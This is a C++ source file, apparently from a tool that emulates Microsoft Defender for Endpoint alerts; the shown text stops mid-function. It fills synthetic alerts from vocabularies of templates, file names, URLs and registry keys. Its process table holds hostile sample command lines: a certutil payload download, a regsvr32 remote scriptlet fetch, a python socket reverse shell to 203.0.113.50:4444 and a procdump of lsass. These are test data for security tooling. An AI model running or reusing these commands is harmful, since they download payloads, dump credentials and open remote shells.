#include "mdecollect/emulator/alert_generator.h"

#include <array>
#include <charconv>
#include <cstddef>
#include <cstdlib>
#include <initializer_list>
#include <utility>

#include "mdecollect/core/json_writer.h"

namespace mdec::emulator {
namespace {

using core::appendInt;
using std::chrono::nanoseconds;

// ---------------------------------------------------------------------------------------
// Small helpers

constexpr std::int64_t kTicksPerSecond = 10'000'000;  // API resolution: 100 ns
// .NET ticks (100 ns since 0001-01-01) at the Unix epoch; alert ids embed such a count.
constexpr std::int64_t kDotNetTicksAtUnixEpoch = 621'355'968'000'000'000;

constexpr nanoseconds ticks(std::int64_t n) { return nanoseconds(n * 100); }
constexpr nanoseconds millis(std::int64_t n) { return nanoseconds(n * 1'000'000); }

std::int64_t unixNanos(Timestamp t) { return t.time_since_epoch().count(); }

// Floors to the API's 100 ns resolution.
Timestamp floorToTick(Timestamp t) {
  std::int64_t ns = unixNanos(t);
  std::int64_t rem = ns % 100;
  if (rem < 0) rem += 100;
  return Timestamp(nanoseconds(ns - rem));
}

std::uint64_t rotl(std::uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

std::uint64_t splitMix64(std::uint64_t& state) {
  std::uint64_t z = (state += 0x9e3779b97f4a7c15ULL);
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

template <typename T, std::size_t N>
const T& pick(Rng& rng, const T (&items)[N]) {
  return items[rng.below(N)];
}

// Index chosen with the given relative weights.
std::size_t weighted(Rng& rng, std::initializer_list<std::uint32_t> weights) {
  std::uint64_t total = 0;
  for (std::uint32_t w : weights) total += w;
  std::uint64_t r = rng.below(total);
  std::size_t index = 0;
  for (std::uint32_t w : weights) {
    if (r < w) return index;
    r -= w;
    ++index;
  }
  return weights.size() - 1;
}

std::string intText(std::int64_t value) {
  std::string s;
  appendInt(s, value);
  return s;
}

// `value` in exactly `width` decimal digits (value >= 0, fits).
void appendPadded(std::string& out, std::int64_t value, int width) {
  char buf[20];
  for (int i = width - 1; i >= 0; --i) {
    buf[i] = static_cast<char>('0' + value % 10);
    value /= 10;
  }
  out.append(buf, static_cast<std::size_t>(width));
}

constexpr char kHexDigits[] = "0123456789abcdef";

std::string randomHex(Rng& rng, std::size_t digits) {
  std::string s;
  s.reserve(digits);
  std::uint64_t bits = 0;
  int left = 0;
  for (std::size_t i = 0; i < digits; ++i) {
    if (left == 0) {
      bits = rng.next();
      left = 16;
    }
    s += kHexDigits[bits & 0xf];
    bits >>= 4;
    --left;
  }
  return s;
}

std::string randomGuid(Rng& rng) {
  std::string h = randomHex(rng, 32);
  h[12] = '4';                                                   // version 4
  h[16] = kHexDigits[8 + (static_cast<unsigned>(h[16]) & 0x3)];  // variant 10xx
  return h.substr(0, 8) + "-" + h.substr(8, 4) + "-" + h.substr(12, 4) + "-" + h.substr(16, 4) +
         "-" + h.substr(20);
}

std::string randomUpperAlnum(Rng& rng, std::size_t n) {
  static constexpr char kChars[] = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
  std::string s;
  for (std::size_t i = 0; i < n; ++i) s += kChars[rng.below(sizeof kChars - 1)];
  return s;
}

// Lower-cases ASCII letters only; UTF-8 multi-byte sequences pass unchanged.
std::string asciiLower(std::string_view text) {
  std::string s(text);
  for (char& c : s) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
  }
  return s;
}

std::string asciiUpper(std::string_view text) {
  std::string s(text);
  for (char& c : s) {
    if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
  }
  return s;
}

// Replaces every {name} in `tmpl` by its value.
std::string subst(std::string_view tmpl,
                  std::initializer_list<std::pair<std::string_view, std::string_view>> vars) {
  std::string out;
  out.reserve(tmpl.size() + 64);
  std::size_t i = 0;
  while (i < tmpl.size()) {
    if (tmpl[i] == '{') {
      std::size_t close = tmpl.find('}', i);
      if (close != std::string_view::npos) {
        std::string_view name = tmpl.substr(i + 1, close - i - 1);
        bool found = false;
        for (const auto& [key, value] : vars) {
          if (key == name) {
            out += value;
            found = true;
            break;
          }
        }
        if (found) {
          i = close + 1;
          continue;
        }
      }
    }
    out += tmpl[i];
    ++i;
  }
  return out;
}

// A Windows process id: a multiple of 4.
std::int64_t randomPid(Rng& rng) { return rng.between(1, 16'000) * 4; }

// ---------------------------------------------------------------------------------------
// Vocabulary

struct AlertTemplate {
  std::string_view title;  // {family} is replaced by the threat family
  std::string_view category;
  std::array<std::string_view, 3> sources;  // detection sources; empty entries unused
  std::string_view detector_id;
  std::array<std::string_view, 4> mitre;  // empty entries unused
  Severity severity;                      // typical severity
  std::string_view evidence_kinds;        // U user, P process, F file, I ip, L url, K/V registry
  bool malware;                           // has threatFamilyName / threatName
  std::string_view description;
};

constexpr AlertTemplate kTemplates[] = {
    {"Suspicious PowerShell command line",
     "Execution",
     {"WindowsDefenderAtp"},
     "7f1c3609-a3ff-40e2-995b-c01770161d68",
     {"T1059.001", "T1027", "T1105"},
     Severity::kMedium,
     "PPFULI",
     false,
     "A suspicious PowerShell activity was observed on the device. This might indicate that an "
     "attacker is using PowerShell to download or run malicious code.\nPowerShell is a scripting "
     "shell and framework that attackers abuse because it is present on every Windows device, "
     "can run code straight from memory and can reach the network without writing a file."},
    {"Low-reputation arbitrary code executed by signed executable",
     "Execution",
     {"WindowsDefenderAtp"},
     "b2a3c4d5-6e7f-4a1b-9c2d-3e4f5a6b7c8d",
     {"T1218.011"},
     Severity::kLow,
     "UPF",
     false,
     "Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This "
     "technique hides the execution of malicious code within a trusted process. As a result, the "
     "trusted process might exhibit suspicious behaviors, such as opening a listening port or "
     "connecting to a command-and-control (C&C) server."},
    {"'{family}' malware was detected",
     "Malware",
     {"WindowsDefenderAv"},
     "c3d4e5f6-0718-4293-a4b5-c6d7e8f90a1b",
     {},
     Severity::kInformational,
     "FFP",
     true,
     "Malware and unwanted software are undesirable applications that perform annoying, "
     "disruptive, or harmful actions on affected devices. Some of these applications can "
     "replicate and spread from one device to another; others can receive commands from remote "
     "attackers and perform activities associated with cyber attacks.\n\nThis detection might "
     "indicate that the malware was stopped from delivering its payload. However, it is prudent "
     "to check the device for signs of infection."},
    {"An active '{family}' malware was detected",
     "Malware",
     {"WindowsDefenderAv", "WindowsDefenderAtp"},
     "d4e5f607-1829-43a4-b5c6-d7e8f90a1b2c",
     {},
     Severity::kHigh,
     "FPUF",
     true,
     "Malware and unwanted software are undesirable applications that perform annoying, "
     "disruptive, or harmful actions on affected devices.\n\nA malware is considered active if it "
     "is found running on the device or it already has persistence mechanisms in place. Active "
     "malware detections are assigned higher severity ratings.\n\nBecause this malware was "
     "active, take precautionary measures and check for residual signs of infection."},
    {"'{family}' malware was prevented",
     "Malware",
     {"WindowsDefenderAv"},
     "e5f60718-293a-44b5-86d7-e8f90a1b2c3d",
     {},
     Severity::kInformational,
     "F",
     true,
     "Microsoft Defender Antivirus prevented a malicious file from running. The file was "
     "quarantined before it could cause harm.\nNo further action is required unless the file "
     "keeps coming back, which would suggest another component on the device re-creates it."},
    {"Suspicious process injection observed",
     "DefenseEvasion",
     {"WindowsDefenderAtp"},
     "f6071829-3a4b-45c6-97e8-f90a1b2c3d4e",
     {"T1055", "T1055.002", "T1055.012"},
     Severity::kMedium,
     "PPF",
     false,
     "A process abnormally injected code into another process. As a result, unexpected code may "
     "be running in the target process memory. Injection is often used to hide malicious code "
     "execution within a trusted process. \nAs a result, the target process may exhibit abnormal "
     "behaviors such as opening a listening port or connecting to a command and control server."},
    {"Suspicious access to LSASS service",
     "CredentialAccess",
     {"WindowsDefenderAtp"},
     "07182930-4b5c-46d7-a8f9-0a1b2c3d4e5f",
     {"T1003.001"},
     Severity::kHigh,
     "PUF",
     false,
     "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS), "
     "which holds the credentials of users who signed in to the device. Attackers read this "
     "memory to obtain password hashes and Kerberos tickets (\"credential dumping\") and reuse "
     "them to move laterally."},
    {"Mimikatz credential theft tool",
     "CredentialAccess",
     {"WindowsDefenderAtp", "WindowsDefenderAv"},
     "18293a4b-5c6d-47e8-b90a-1b2c3d4e5f60",
     {"T1003", "T1003.001", "T1558.003"},
     Severity::kHigh,
     "PFUU",
     false,
     "The Mimikatz credential theft tool, or a tool built from its source code, was detected on "
     "the device. Mimikatz extracts plaintext passwords, hashes and Kerberos tickets from memory "
     "and can forge tickets (\"golden ticket\", \"pass-the-ticket\")."},
    {"Anomaly detected in ASEP registry",
     "Persistence",
     {"WindowsDefenderAtp"},
     "293a4b5c-6d7e-48f9-8a1b-2c3d4e5f6071",
     {"T1547.001", "T1112"},
     Severity::kMedium,
     "VKPF",
     false,
     "A process registered a suspicious command or file in an auto-start extensibility point "
     "(ASEP) registry key. Attackers place programs in these keys so that their malware runs "
     "again every time the device starts or a user signs in."},
    {"Suspicious scheduled task",
     "Persistence",
     {"WindowsDefenderAtp"},
     "3a4b5c6d-7e8f-4901-9b2c-3d4e5f607182",
     {"T1053.005"},
     Severity::kLow,
     "PFU",
     false,
     "A scheduled task was created or modified in a way that is common in malware: it runs a "
     "binary from a user-writable folder, runs as SYSTEM, or is hidden from the Task Scheduler "
     "user interface."},
    {"Connection to a custom network indicator",
     "CommandAndControl",
     {"CustomerTI"},
     "4b5c6d7e-8f90-4a12-8c3d-4e5f60718293",
     {"T1071.001"},
     Severity::kMedium,
     "ILP",
     false,
     "A connection was made to a network address or URL that your organization listed as a "
     "custom indicator. Review the indicator and the process that made the connection."},
    {"Communication with a malicious IP address",
     "CommandAndControl",
     {"WindowsDefenderAtp", "MTP"},
     "5c6d7e8f-9012-4b23-9d4e-5f6071829304",
     {"T1071", "T1071.001", "T1573"},
     Severity::kHigh,
     "IPLI",
     false,
     "The device communicated with an IP address known to be used by attackers for command and "
     "control. The connection may indicate that a malicious implant is running and waiting for "
     "instructions."},
    {"Ransomware behavior detected in the file system",
     "Ransomware",
     {"WindowsDefenderAtp"},
     "6d7e8f90-1234-4c34-8e5f-60718293a4b5",
     {"T1486", "T1490", "T1489"},
     Severity::kHigh,
     "PFFFU",
     false,
     "A process renamed and encrypted many files in a short time and deleted volume shadow "
     "copies. This is typical of ransomware. Isolate the device immediately."},
    {"Suspicious LDAP query",
     "Discovery",
     {"WindowsDefenderAtp"},
     "7e8f9012-3456-4d45-9f60-718293a4b5c6",
     {"T1087.002", "T1069.002"},
     Severity::kLow,
     "PU",
     false,
     "A process ran an LDAP query that enumerates privileged groups or service accounts, as "
     "reconnaissance tools such as BloodHound and ADRecon do."},
    {"Suspicious service registration with PsExec",
     "LateralMovement",
     {"WindowsDefenderAtp", "MTP"},
     "8f901234-5678-4e56-8071-8293a4b5c6d7",
     {"T1021.002", "T1569.002"},
     Severity::kMedium,
     "PFUI",
     false,
     "A service was installed remotely through the PsExec tool or a similar utility. Attackers "
     "use remote service creation to run commands on other devices with the credentials they "
     "have stolen."},
    {"Possible Antimalware Scan Interface (AMSI) tampering",
     "DefenseEvasion",
     {"WindowsDefenderAtp"},
     "90123456-789a-4f67-9182-93a4b5c6d7e8",
     {"T1562.001"},
     Severity::kMedium,
     "PF",
     false,
     "A script tried to disable the Antimalware Scan Interface (AMSI), for example by patching "
     "amsi.dll in memory or by setting the \"amsiInitFailed\" field. Without AMSI, scripts are no "
     "longer scanned before they run."},
    {"User account created under suspicious circumstances",
     "Persistence",
     {"WindowsDefenderAtp"},
     "a1234567-89ab-4078-a293-a4b5c6d7e8f9",
     {"T1136.001"},
     Severity::kMedium,
     "UPU",
     false,
     "A new local user account was created by a process that rarely does so, shortly after "
     "other suspicious activity on the device."},
    {"Phishing site visited",
     "InitialAccess",
     {"WindowsDefenderSmartScreen"},
     "b2345678-9abc-4189-b3a4-b5c6d7e8f901",
     {"T1566.002"},
     Severity::kInformational,
     "LU",
     false,
     "A user opened a website that Microsoft Defender SmartScreen reports as phishing. Sign-in "
     "credentials entered on that site should be considered compromised."},
    {"Custom detection: Office app → encoded PowerShell",
     "SuspiciousActivity",
     {"CustomDetection"},
     "c3456789-abcd-429a-84b5-c6d7e8f90a12",
     {"T1204.002", "T1059.001"},
     Severity::kMedium,
     "PFU",
     false,
     "Custom detection rule \"Office spawning encoded PowerShell\" (owner: SOC team) matched.\n"
     "Query: DeviceProcessEvents | where InitiatingProcessFileName in~ (\"winword.exe\", "
     "\"excel.exe\") and ProcessCommandLine has \"-enc\""},
    {"Automated investigation started manually",
     "SuspiciousActivity",
     {"AutomatedInvestigation"},
     "d456789a-bcde-43ab-95c6-d7e8f90a1b23",
     {},
     Severity::kInformational,
     "F",
     false,
     "An analyst started an automated investigation on this device. The alert links the "
     "investigation to the incident."},
    {"'{family}' unwanted software was detected",
     "UnwantedSoftware",
     {"WindowsDefenderAv"},
     "e56789ab-cdef-44bc-86d7-e8f90a1b2c34",
     {},
     Severity::kLow,
     "F",
     true,
     "Potentially unwanted applications (PUA) are not malware, but they can slow devices down, "
     "show unexpected ads or install other software. Microsoft Defender Antivirus detected one "
     "of them."},
    {"Multi-stage incident involving Initial access & Command and control",
     "InitialAccess",
     {"MTP"},
     "f6789abc-def0-45cd-97e8-f90a1b2c3d4e",
     {"T1566.001", "T1071.001", "T1204.002"},
     Severity::kHigh,
     "ULPFI",
     false,
     "Several alerts on this device and mailbox were correlated into one incident: a phishing "
     "mail was delivered, an attachment was opened, and the device then connected to an "
     "unfamiliar host."},
    {"Exploit attempt against CVE-2021-40444",
     "Exploit",
     {"WindowsDefenderAtp"},
     "0789abcd-ef01-46de-88f9-0a1b2c3d4e5f",
     {"T1203"},
     Severity::kHigh,
     "PFL",
     false,
     "An Office document tried to exploit the MSHTML remote code execution vulnerability "
     "(CVE-2021-40444) by loading a crafted ActiveX control from a remote server."},
    {"Suspicious file dropped and launched",
     "Execution",
     {"WindowsDefenderAtp"},
     "189abcde-f012-47ef-99a0-1b2c3d4e5f60",
     {"T1105", "T1204.002"},
     Severity::kMedium,
     "FPLF",
     false,
     "A process downloaded a file from the internet and launched it shortly afterwards. The file "
     "has a low prevalence in your organization."},
    {"Possible data exfiltration over a web service",
     "Exfiltration",
     {"WindowsDefenderAtp"},
     "29abcdef-0123-48f0-8ab1-2c3d4e5f6071",
     {"T1567.002"},
     Severity::kMedium,
     "LIPU",
     false,
     "A large amount of data was uploaded from the device to a cloud storage service that is "
     "rarely used in your organization."},
    {"Suspicious archive created in a staging folder",
     "Collection",
     {"WindowsDefenderAtp"},
     "3abcdef0-1234-49a1-9bc2-3d4e5f607182",
     {"T1560.001", "T1074.001"},
     Severity::kLow,
     "PF",
     false,
     "A compression tool created a password-protected archive of documents in a temporary "
     "folder, a common step before data is exfiltrated."},
    {"Tampering with Microsoft Defender for Endpoint sensor settings",
     "DefenseEvasion",
     {"WindowsDefenderAtp"},
     "4bcdef01-2345-4ab2-8cd3-4e5f60718293",
     {"T1562.001", "T1112"},
     Severity::kHigh,
     "VKP",
     false,
     "A process changed registry settings that control the Defender for Endpoint sensor. "
     "Attackers do this to blind the sensor before they carry out other actions."},
};

// The template some of whose alerts carry a newer Graph detectionSource (see next()). The
// Defender value is Graph's own: graph.md translates values outside its table unchanged.
constexpr std::string_view kThreatIntelligenceTitle = "Communication with a malicious IP address";
constexpr std::string_view kThreatIntelligenceSource = "microsoftThreatIntelligence";

std::uint64_t idHash(std::string_view id) {
  std::uint64_t h = 1469598103934665603ULL;
  for (char c : id) {
    h ^= static_cast<unsigned char>(c);
    h *= 1099511628211ULL;
  }
  return h ^ (h >> 29);
}

constexpr std::string_view kThreatFamilies[] = {
    "Exeselrun",    "Mountsi", "Wacatac", "Emotet",     "Qakbot",  "LockBit",
    "CobaltStrike", "Tiggre",  "Sabsik",  "AgentTesla", "Bluteal", "Kryptik",
};
constexpr std::string_view kThreatPrefixes[] = {
    "Trojan:Win32/",   "Trojan:Win64/",          "Ransom:Win32/",
    "Backdoor:Win32/", "TrojanDownloader:O97M/", "PUA:Win32/",
};
constexpr std::string_view kThreatSuffixes[] = {".A", ".B!ml", ".gen!A", ".C!MTB", "!rfn", ""};

struct NameSpec {
  std::string_view account;
  bool builtin;  // local built-in account: no AAD id, no UPN
};
constexpr NameSpec kAccountNames[] = {
    {"jdoe", false},          {"asmith", false},     {"bwilson", false},
    {"administrator", true},  {"svc_backup", true},  {"svc_sql", true},
    {"José", false},          {"jgarcía", false},    {"Σωκράτης", false},
    {"山田", false},          {"山田太郎", false},   {"Zoë", false},
    {"mmüller", false},       {"Łukasz", false},     {"øyvind.berg", false},
    {"ahmed.alfarsi", false}, {"priya.n", false},    {"olga.иванова", false},
    {"temp123", false},       {"kim.minjun", false}, {"fatima.zahra", false},
    {"Ñoño", false},          {"r.o'brien", false},  {"helpdesk", true},
    {"mjohnson", false},      {"dlee", false},       {"cnguyen", false},
    {"pwhite", false},        {"tbrown", false},     {"sthomas", false},
    {"kmartin", false},       {"lclark", false},     {"rhall", false},
    {"ewright", false},       {"gking", false},      {"hscott", false},
    {"nadams", false},        {"obaker", false},     {"vgreen", false},
    {"svc_deploy", true},     {"aroberts", false},   {"bcampbell", false},
};
constexpr std::string_view kDomains[] = {"CONTOSO", "CONTOSO", "FABRIKAM", "CORP", "NORTHWIND"};

constexpr std::string_view kRbacGroups[] = {
    "Workstations-EU", "Workstations-US", "Servers",         "Domain Controllers",
    "UnassignedGroup", "Kiosks",          "Finance – Paris",
};

constexpr std::string_view kAnalysts[] = {
    "secop123@contoso.com",  "analyst.kim@contoso.com", "soc-tier1@contoso.com",
    "j.garcia@fabrikam.com", "maria.rossi@contoso.com", "ir-team@northwind.com",
};

struct ProcessSpec {
  std::string_view file_name;
  std::string_view folder;  // {user} is replaced
  std::string_view command_line;
};
constexpr ProcessSpec kProcesses[] = {
    {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
     "\"powershell.exe\" -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand "
     "{b64}"},
    {"rundll32.exe", "C:\\Windows\\SysWOW64",
     "rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe"},
    {"cmd.exe", "C:\\Windows\\System32",
     "cmd.exe /c \"whoami /all > C:\\Users\\Public\\{hex}.txt && net group \"Domain Admins\" "
     "/domain\""},
    {"mshta.exe", "C:\\Windows\\System32",
     "mshta.exe \"javascript:a=GetObject('script:https://cdn.example.net/x.sct');close()\""},
    {"certutil.exe", "C:\\Windows\\System32",
     "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe "
     "C:\\Users\\{user}\\AppData\\Local\\Temp\\a.exe"},
    {"regsvr32.exe", "C:\\Windows\\System32",
     "regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll"},
    {"wscript.exe", "C:\\Windows\\System32",
     "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{user}\\Downloads\\factura_año.js\""},
    {"EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde "
     "\"C:\\Users\\{user}\\Documents\\Überweisung März.xlsm\""},
    {"schtasks.exe", "C:\\Windows\\System32",
     "schtasks /create /tn \"Updater\" /tr \"C:\\ProgramData\\upd\\svc.exe\" /sc onlogon /ru "
     "SYSTEM /f"},
    {"notepad.exe", "C:\\Windows\\System32", "\"notepad.exe\""},
    {"python.exe", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311",
     "python.exe -c \"import socket,subprocess;s=socket.socket();s.connect(('203.0.113.50',4444))"
     "\""},
    {"procdump64.exe", "C:\\Users\\{user}\\Downloads",
     "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp"},
    {"7z.exe", "C:\\Program Files\\7-Zip",
     "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pS3cr3t! C:\\Windows\\Temp\\out.7z "
     "\"C:\\Users\\{user}\\Documents\\*\""},
    {"PsExec64.exe", "C:\\Tools\\Sysinternals",
     "PsExec64.exe \\\\srv-file01 -s -d cmd.exe /c \"C:\\Windows\\Temp\\run.bat\""},
    {"svchost.exe", "C:\\Windows\\System32", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"},
};

struct ParentSpec {
  std::string_view file_name;
  std::string_view folder;
};
constexpr ParentSpec kParents[] = {
    {"explorer.exe", "C:\\Windows"},
    {"WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16"},
    {"cmd.exe", "C:\\Windows\\System32"},
    {"services.exe", "C:\\Windows\\System32"},
    {"svchost.exe", "C:\\Windows\\System32"},
    {"outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"},
};

constexpr std::string_view kFileNames[] = {
    "suspicious.dll",
    "invoice_2024.pdf.exe",
    "résumé_final.docm",
    "Überweisung_März.pdf.js",
    "factura_año_2024.xlsm",
    "презентация.scr",
    "請求書.lnk",
    "payload.ps1",
    "SB.xsl",
    "mimikatz.exe",
    "lsass.dmp",
    "setup_x64.msi",
    "update.hta",
    "Rechnung Nr. 4711.zip",
    "readme.txt.vbs",
    "crack-keygen.exe",
    "svc.exe",
    "a.exe",
    "run.bat",
    "out.7z",
    "beacon_x64.dll",
    "chrome_update.exe",
    "Q4 results.xlsx",
    "AnyDesk.exe",
    "nc.exe",
    "wininit.ps1",
};
constexpr std::string_view kEmojiFileNames[] = {"update 🚀.hta", "photos 📷.scr"};

constexpr std::string_view kFileFolders[] = {
    "C:\\Users\\{user}\\Downloads",
    "C:\\Users\\{user}\\AppData\\Local\\Temp",
    "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
    "c:\\temp",
    "C:\\ProgramData\\upd",
    "C:\\Windows\\Temp\\sb-sim-temp-{hex}",
    "\\\\fileserver01\\share\\Finance\\Q4",
    "D:\\Projets\\Données",
};

constexpr std::string_view kUrls[] = {
    "https://evil.example.com/a/b/payload.ps1?x=1&y=2",
    "http://198.51.100.{n}:8080/gate.php?id={hex}&os=win10&arch=x64",
    "https://login.micros0ft-online.com/common/oauth2/authorize?client_id={guid}&response_type="
    "code&redirect_uri=https%3A%2F%2Fportal.example.net%2Fcb",
    "https://cdn.example.net/static/js/{hex}.js?v=3",
    "http://[2001:db8::7]/update.bin",
    "https://storage.example.org/share/invoice.zip?sig=AbC%2Bd%3D&se=2025-12-01T00%3A00%3A00Z",
    "https://files.example.de/d%C3%BCsseldorf/rechnung.exe",
    "https://pastebin.example.com/raw/{hex}",
    "https://ann:s3cret@evil.example.com:8443/a/b/payload.ps1?x=1&y=2#frag",
    "ftp://203.0.113.77/pub/tools/nc.exe",
};

struct RegistrySpec {
  std::string_view hive;
  std::string_view key;  // without the hive
};
constexpr RegistrySpec kRegistryKeys[] = {
    {"HKEY_LOCAL_MACHINE", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"},
    {"HKEY_CURRENT_USER", "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce"},
    {"HKEY_LOCAL_MACHINE", "SYSTEM\\CurrentControlSet\\Services\\UpdSvc{n}"},
    {"HKEY_LOCAL_MACHINE", "SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection"},
    {"HKEY_CURRENT_USER", "Software\\Classes\\ms-settings\\Shell\\Open\\command"},
    {"HKEY_LOCAL_MACHINE",
     "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe"},
};

struct RegistryValueSpec {
  std::string_view type;
  std::string_view value;
};
constexpr RegistryValueSpec kRegistryValues[] = {
    {"String", "\"C:\\ProgramData\\upd\\svc.exe\" /run"},
    {"ExpandString", "%APPDATA%\\Microsoft\\updater.exe -silent"},
    {"Dword", "1"},
    {"Dword", "0"},
    {"Binary", "4d5a90000300000004000000ffff0000"},
    {"String", "C:\\Users\\{user}\\AppData\\Local\\Temp\\svchost.exe"},
    {"MultiString", "UpdSvc\\0netsvcs"},
};

constexpr std::string_view kCommentTexts[] = {
    "Investigating.",
    "Contacted the user ({user}) — waiting for a reply.",
    "Host isolated; collecting the investigation package.\nTicket: INC-{n}",
    "Confirmed pen-test by \"Red Team\", see \\\\fileserver01\\share\\Reports\\q4.docx",
    "Benign: scheduled task deployed by IT 👍",
    "Σχόλιο: ελέγχθηκε από την ομάδα SOC.",
    "誤検知の可能性があります。確認中です。",
    "Escalated to tier 2.\n\tReason: credential access on a server.",
    "Same hash seen on 3 other devices; blocking indicator.",
};

constexpr std::string_view kDeterminationsTruePositive[] = {
    "MultiStagedAttack", "MaliciousUserActivity", "Malware", "Phishing",
    "UnwantedSoftware",  "CompromisedAccount",    "Apt",     "Other",
};
constexpr std::string_view kDeterminationsExpected[] = {
    "SecurityTesting", "LineOfBusinessApplication", "ConfirmedUserActivity", "SecurityPersonnel",
    "Other",
};
constexpr std::string_view kDeterminationsFalsePositive[] = {
    "NotMalicious",
    "NotEnoughDataToValidate",
    "Other",
};

constexpr std::string_view kOpenInvestigationStates[] = {
    "Queued", "Running", "PendingApproval", "PendingResource", "Benign", "PartiallyInvestigated",
};
constexpr std::string_view kNoInvestigationStates[] = {
    "UnsupportedAlertType", "UnsupportedAlertType", "UnsupportedAlertType",
    "UnsupportedOs",        "SuppressedAlert",
};
constexpr std::string_view kClosedInvestigationStates[] = {
    "Benign",           "SuccessfullyRemediated", "PartiallyRemediated",
    "TerminatedByUser", "TerminatedBySystem",     "Failed",
};

// ---------------------------------------------------------------------------------------
// Random values

std::string randomBase64(Rng& rng, std::size_t n) {
  static constexpr char kChars[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string s;
  s.reserve(n + 2);
  for (std::size_t i = 0; i < n; ++i) s += kChars[rng.below(64)];
  s += "==";
  return s;
}

// Note for this file: C++ leaves the order of evaluation of function arguments and of
// overloaded operator operands (a + f() + g()) unspecified, and compilers differ. Every
// expression below draws from an Rng at most once, or in a braced list (which is ordered), so
// that the output is the same whichever compiler built it.

// Appends `parts` dot-separated random numbers, each in [lo, hi].
void appendOctets(Rng& rng, std::string& s, int parts, std::int64_t lo, std::int64_t hi) {
  for (int i = 0; i < parts; ++i) {
    s += '.';
    appendInt(s, rng.between(lo, hi));
  }
}

std::string randomIpv4(Rng& rng) {
  std::string s;
  switch (rng.below(6)) {
    case 0:
      s = "10";
      appendOctets(rng, s, 2, 0, 255);
      break;
    case 1:
      s = "192.168";
      appendOctets(rng, s, 1, 0, 255);
      break;
    case 2:
      s = "172";
      appendOctets(rng, s, 1, 16, 31);
      appendOctets(rng, s, 1, 0, 255);
      break;
    case 3:
      s = "203.0.113";
      break;
    case 4:
      s = "198.51.100";
      break;
    default:
      appendInt(s, rng.between(23, 223));
      appendOctets(rng, s, 2, 0, 255);
      break;
  }
  appendOctets(rng, s, 1, 1, 254);
  return s;
}

std::string hexGroup(Rng& rng) {
  std::string s;
  std::uint64_t v = rng.below(0x10000);
  char buf[8];
  auto res = std::to_chars(buf, buf + sizeof buf, v, 16);
  s.assign(buf, res.ptr);
  return s;
}

// `prefix` followed by random hex groups, the separators given before each group.
std::string ipv6(Rng& rng, std::string_view prefix,
                 std::initializer_list<std::string_view> separators) {
  std::string s(prefix);
  for (std::string_view separator : separators) {
    s += separator;
    s += hexGroup(rng);
  }
  return s;
}

std::string randomIpv6(Rng& rng) {
  switch (rng.below(4)) {
    case 0:
      return ipv6(rng, "2001:db8", {":", ":", "::"});
    case 1:
      return ipv6(rng, "fe80:", {":", ":", ":", ":"});
    case 2:
      return ipv6(rng, "2a01:111:f400", {":", "::"});
    default:
      return ipv6(rng, "2001:db8:85a3:0:0:8a2e", {":", ":"});
  }
}

std::string randomIp(Rng& rng) { return rng.chance(70) ? randomIpv4(rng) : randomIpv6(rng); }

std::string randomUrl(Rng& rng) {
  const std::string_view tmpl = pick(rng, kUrls);
  return subst(tmpl, {{"n", intText(rng.between(2, 250))},
                      {"hex", randomHex(rng, 12)},
                      {"guid", randomGuid(rng)}});
}

std::string randomFileName(Rng& rng) {
  if (rng.chance(3)) return std::string(pick(rng, kEmojiFileNames));
  return std::string(pick(rng, kFileNames));
}

std::string randomFolder(Rng& rng, std::string_view user) {
  const std::string_view tmpl = pick(rng, kFileFolders);
  return subst(tmpl, {{"user", user}, {"hex", randomHex(rng, 6)}});
}

// Time helpers on the generator's 100 ns grid.
Timestamp minusTicks(Timestamp t, std::int64_t lo_ticks, std::int64_t hi_ticks, Rng& rng) {
  return t - ticks(rng.between(lo_ticks, hi_ticks));
}
Timestamp plusTicks(Timestamp t, std::int64_t lo_ticks, std::int64_t hi_ticks, Rng& rng) {
  return t + ticks(rng.between(lo_ticks, hi_ticks));
}
constexpr std::int64_t kMsTicks = 10'000;
constexpr std::int64_t kSecTicks = kTicksPerSecond;

Severity varySeverity(Rng& rng, Severity typical) {
  if (rng.chance(3)) return Severity::kUnSpecified;
  int s = static_cast<int>(typical);
  switch (weighted(rng, {20, 60, 20})) {
    case 0:
      s -= 1;
      break;
    case 2:
      s += 1;
      break;
    default:
      break;
  }
  if (s < static_cast<int>(Severity::kInformational))
    s = static_cast<int>(Severity::kInformational);
  if (s > static_cast<int>(Severity::kHigh)) s = static_cast<int>(Severity::kHigh);
  return static_cast<Severity>(s);
}

// Context for description paragraphs.
struct DescriptionContext {
  std::string user;
  std::string domain;
  std::string host;
  std::string rbac;
  std::string file;
  std::string folder;
  std::string command_line;
  std::string sha1;
  std::string sha256;
  std::string ip;
  std::string url;
  std::string techniques;
  Timestamp created;
};

std::string descriptionParagraph(Rng& rng, std::size_t kind, const DescriptionContext& c) {
  switch (kind) {
    case 0:
      return subst(
